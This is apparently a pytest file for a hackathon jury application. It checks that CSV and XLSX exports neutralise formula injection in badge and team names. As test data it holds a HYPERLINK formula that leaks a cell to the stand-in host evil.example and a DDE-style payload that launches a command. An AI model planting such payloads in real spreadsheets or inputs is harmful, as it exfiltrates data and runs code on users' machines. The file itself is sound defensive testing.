"""Attack replay: formula injection through the jury's exports. A badge or team name that a spreadsheet would run
as a formula (=, +, -, @, tab, carriage return first) reaches scores.csv, ranking.csv and jury.xlsx as inert text,
while numbers, negative ones included, stay numbers."""

import csv
import io
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from badgeathon.jury import exports
from badgeathon.jury.exports import RankingRow, ScoreRow
from badgeathon.workshop import studio

from ..jury import conftest as jury_fixtures
from ..jury.conftest import database, organiser_client, team

app, jury, locked = jury_fixtures.app, jury_fixtures.jury, jury_fixtures.locked  # the jury's fixtures, here only


@pytest.fixture
def database_url(tmp_path):
    """SQLite only: the exports are built the same way from either database, and the replay stays fast."""
    return f"sqlite:///{tmp_path / 'test.db'}"


EVIL_BADGE = '=HYPERLINK("http://evil.example/?leak="&A2;"Cliquez ici")'
EVIL_TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def export(client, jury, name: str):
    response = client.get(f"/jury/events/{jury.event_id}/export/{name}")
    assert response.status_code == 200, response.status_code
    return response.get_data()


@pytest.fixture
def poisoned(app, locked):
    """The locked event, with a badge and a team whose names are formulas."""
    with database(app) as session:
        voisins, zeles = team(locked, "Les Voisins"), team(locked, "Les Zélés")
        design = studio.design_for_team(voisins)
        design.view = replace(design.view, name=EVIL_BADGE)  # what the studio's view holds once a team typed it
        zeles.name = EVIL_TEAM
        session.commit()
    return locked


@pytest.mark.parametrize("text", [EVIL_BADGE, "+33 6 12 34 56 78", "-2+3", "@cmd", "\t=1+1", "\r=1+1"])
def test_a_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert exports.neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["Les Voisins", "Badge « =1 »", "", " =1", 5, -2, -1.5, None, True])
def test_other_values_are_left_as_they_are(value):
    assert exports.neutralised(value) is value


def test_the_exports_quote_formulas_and_the_workbook_has_no_formula_cell(app, poisoned):
    organiser = organiser_client(app)

    for name in ("scores.csv", "ranking.csv"):
        cells = [cell for row in read_csv(export(organiser, poisoned, name)) for cell in row]
        assert "'" + EVIL_BADGE in cells and "'" + EVIL_TEAM in cells, name
        assert not [cell for cell in cells if cell.startswith(TRIGGERS)], name

    book = load_workbook(io.BytesIO(export(organiser, poisoned, "jury.xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + EVIL_BADGE in texts and "'" + EVIL_TEAM in texts
    assert not [text for text in texts if text.startswith(TRIGGERS)]


def test_negative_numbers_stay_numbers():
    scores = [ScoreRow("-Juré", "Équipe", "=1+1", "Critère", 1.0, -2, False)]
    ranks = [RankingRow(1, False, "Équipe", "+Badge", -1.5, 1, -0.25, 3, 0.5)]

    (score,) = read_csv(exports.to_csv(["Juré", "Équipe", "Badge", "Critère", "Poids", "Note", "Récusé"], scores))[1:]
    (rank,) = read_csv(exports.to_csv(["Rang"] * 9, ranks))[1:]
    assert score == ["'-Juré", "Équipe", "'=1+1", "Critère", "1,000", "-2", "non"]
    assert rank[3:7] == ["'+Badge", "-1,500", "1", "-0,250"]

    book = load_workbook(io.BytesIO(exports.to_xlsx([("Notes", ["a"] * 7, scores), ("Classement", ["b"] * 9, ranks)])))
    score_cells, rank_cells = list(book["Notes"].iter_rows())[1], list(book["Classement"].iter_rows())[1]
    assert [(c.value, c.data_type) for c in score_cells[:3]] == [("'-Juré", "s"), ("Équipe", "s"), ("'=1+1", "s")]
    assert (score_cells[5].value, score_cells[5].data_type) == (-2, "n")
    assert [(c.value, c.data_type) for c in rank_cells[3:7]] == [("'+Badge", "s"), (-1.5, "n"), (1, "n"), (-0.25, "n")]
